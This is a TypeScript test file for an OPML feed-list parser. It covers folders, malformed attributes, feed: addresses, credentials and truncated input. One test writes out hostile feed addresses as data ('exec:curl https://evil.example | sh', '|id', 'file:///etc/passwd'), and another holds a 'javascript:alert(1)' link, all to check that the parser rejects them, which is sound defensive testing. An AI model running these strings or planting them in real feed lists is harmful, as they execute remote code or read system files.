import { describe, expect, test } from 'vitest';
import { UnreadableError } from '../../src/errors.ts';
import { readOpml } from '../../src/read/opml.ts';

const opml = (body: string): Uint8Array =>
  Buffer.from(
    `<?xml version="1.0"?><opml version="2.0"><head><title>My desk</title></head><body>${body}</body></opml>`,
  );

describe('readOpml', () => {
  test('folders from the outermost in, each address once, names in any case', () => {
    const list = opml(`
      <outline text="World"><outline text="Coast &amp; sea">
        <outline type="rss" text="Harbour Gazette" xmlUrl="https://harbour-gazette.example/feed.xml"/>
        <outline title="Island Post" xmlurl="https://island-post.example/feed?a=1&b=2"></outline>
      </outline></outline>
      <outline text="Again" XMLURL="https://harbour-gazette.example/feed.xml"/>
      <outline xmlUrl="https://valley-wire.example/rss"/>`);
    expect(readOpml(list)).toEqual({
      outlines: [
        {
          feed_url: 'https://harbour-gazette.example/feed.xml',
          title: 'Harbour Gazette',
          folders: ['World', 'Coast & sea'],
        },
        {
          feed_url: 'https://island-post.example/feed?a=1&b=2',
          title: 'Island Post',
          folders: ['World', 'Coast & sea'],
        },
        { feed_url: 'https://valley-wire.example/rss', title: 'https://valley-wire.example/rss', folders: [] },
      ],
      warnings: [],
    });
  });

  test('what other readers would run is left out and counted', () => {
    const list = opml(`
      <outline text="a" xmlUrl="exec:curl https://evil.example | sh"/>
      <outline text="b" xmlUrl="|id"/>
      <outline text="c" xmlUrl="filter:cat:https://evil.example"/>
      <outline text="d" xmlUrl="file:///etc/passwd"/>
      <outline text="Desk" xmlUrl="https://desk.example/feed"/>`);
    const { outlines, warnings } = readOpml(list);
    expect(outlines.map((outline) => outline.title)).toEqual(['Desk']);
    expect(warnings).toEqual(['left out 4 addresses that are not http or https']);
  });

  test('an address behind HTML whose quotation marks end its tag is found, and the folders stay right', () => {
    const list = opml(`
      <outline text="Ports">
        <outline text="Quay" description="By <a href="https://guild.example" rel="author">the guild</a>." xmlUrl="https://quay.example/feed" type="rss" />
        <outline text="Dock & Rail" description="News of "rails" < docks" xmlUrl='https://dock.example/feed?a=1&amp;b=2' />
      </outline>
      <outline text="Desk" description="See <a href="https://desk.example/">desk</a>" xmlUrl="https://desk.example/feed"></outline>
      <outline text="Island Post" xmlUrl="https://island-post.example/feed"/>`);
    expect(readOpml(list).outlines.map(({ feed_url, title, folders }) => [feed_url, title, ...folders])).toEqual([
      ['https://quay.example/feed', 'Quay', 'Ports'],
      ['https://dock.example/feed?a=1&b=2', 'Dock & Rail', 'Ports'],
      ['https://desk.example/feed', 'Desk'],
      ['https://island-post.example/feed', 'Island Post'],
    ]);
  });

  test('the site, feed: addresses and credentials, which leave the address', () => {
    const list = opml(`
      <outline text="Desk" xmlUrl="feed://desk.example/feed" htmlUrl="https://desk.example/"/>
      <outline text="Quay" xmlUrl="feed:https://ada:quay%207@quay.example/feed" htmlUrl="javascript:alert(1)"/>`);
    expect(readOpml(list).outlines).toEqual([
      { feed_url: 'http://desk.example/feed', title: 'Desk', folders: [], home: 'https://desk.example/' },
      { feed_url: 'https://quay.example/feed', title: 'Quay', folders: [], credentials: 'ada:quay 7' },
    ]);
  });

  test('a list that is cut off gives what stood before the cut', () => {
    const whole = opml(
      '<outline text="Desk" xmlUrl="https://desk.example/feed"/><outline text="Quay" xmlUrl="https://quay.example/f',
    );
    expect(readOpml(whole.subarray(0, whole.length - 16)).outlines.map((outline) => outline.title)).toEqual(['Desk']);
  });

  test.each(['', '<rss/>', '<!doctype html><opml>', '{}'])('%j is no OPML', (text) => {
    expect(() => readOpml(Buffer.from(text))).toThrow(UnreadableError);
  });
});
